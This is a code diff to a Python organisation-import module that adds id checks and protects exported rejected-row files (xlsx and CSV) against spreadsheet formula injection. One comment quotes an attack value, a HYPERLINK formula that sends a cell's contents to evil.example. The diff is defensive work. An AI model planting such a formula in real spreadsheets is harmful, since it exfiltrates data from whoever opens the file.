@@ -39,7 +39,8 @@ from typing import Any
 from regelwerk.diagnostics import did_you_mean
 from regelwerk.imports.absent import ABSENT_CHOICES, Absent, end_absent, find_absent, import_day
 from regelwerk.imports.columns import HeaderError, ImportSpec, normalise
-from regelwerk.imports.reader import FileError, RowProblem, Sheet, open_tables
+from regelwerk.imports.reader import FileError, RowProblem, Sheet, as_formula_safe, open_tables
+from regelwerk.imports.values import id_problem
 
 __all__ = [
     "ENTITIES",
@@ -258,8 +259,14 @@ class OrganisationImport:
         for entity in ENTITIES:
             seen: dict[tuple[str, Any], int] = {}
             pair = _PAIRED.get(entity)
+            stored = known.employees if entity == "employees" else known.units[_UNIT[entity]]
+            looks: dict[str, tuple[str, str]] = {}  # folded id -> (its id, where: "row n" or "the store")
             for row in self.rows[entity]:
                 if row.problems:
+                    continue
+                odd = id_problem(row.id, row.row, looks, stored)
+                if odd is not None:
+                    row.problems.append(odd)
                     continue
                 key = (row.id, row.values.get(pair) if pair else None)
                 if key in seen:
@@ -853,15 +860,30 @@ def write_rejected(result: OrganisationResult, path: str | Path, specs: Mapping[
     written: list[Path] = []
     if target.suffix.lower() in (".xlsx", ".xlsm"):
         from openpyxl import Workbook
+        from openpyxl.cell import WriteOnlyCell
 
         book = Workbook(write_only=True)
+
+        def as_read(sheet: Any, values: list[Any]) -> list[Any]:
+            # a text stays text: openpyxl stores a text that starts with '=' as a formula (found by attack: a
+            # name '=HYPERLINK("https://evil.example/?"&B2, "Klik")' in a CSV or a text cell came back as a live
+            # formula in the file the administrator opens to fix the rows)
+            cells: list[Any] = []
+            for value in values:
+                if isinstance(value, str):
+                    cell = WriteOnlyCell(sheet, value=value)
+                    cell.data_type = "s"
+                    value = cell
+                cells.append(value)
+            return cells
+
         for entity in ENTITIES:
             if entity in by_entity:
                 sheet = book.create_sheet(label[entity])
                 header, body = table(entity)
-                sheet.append(header)
+                sheet.append(as_read(sheet, header))
                 for row in body:
-                    sheet.append(row)
+                    sheet.append(as_read(sheet, row))
         book.save(target)
         return [target]
     import csv
@@ -874,7 +896,9 @@ def write_rejected(result: OrganisationResult, path: str | Path, specs: Mapping[
             writer = csv.writer(handle, dialect="excel", delimiter=";")
             writer.writerow(["" if h is None else h for h in header])
             for row in body:
-                writer.writerow(["" if v is None else v.isoformat() if isinstance(v, (date, datetime)) else v
-                                 for v in row])
+                # a text that would start a formula gets Excel's text mark (found by attack, as in the workbook);
+                # the reader takes it off again, so the file imports as it was
+                writer.writerow(["" if v is None else v.isoformat() if isinstance(v, (date, datetime))
+                                 else as_formula_safe(v) if isinstance(v, str) else v for v in row])
         written.append(out)
     return written
